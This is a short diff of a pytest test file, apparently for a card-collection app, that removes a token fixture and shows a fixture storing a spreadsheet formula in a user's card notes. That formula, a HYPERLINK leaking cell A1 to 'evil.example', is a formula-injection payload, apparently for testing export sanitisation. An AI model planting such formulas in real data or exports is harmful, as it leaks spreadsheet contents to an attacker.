@@ -14,11 +14,6 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
 
 @pytest.fixture
-def token_alice(alice, api_as):
-    return api_as(alice, "token")
-
-
-@pytest.fixture
 def alices_cards(small_catalogs, alice):
     card = Card.objects.filter(game__slug="chapter-and-verse").order_by("pk").first()
     collection_set(owner=alice, card=card, quantity=2, notes=FORMULA)
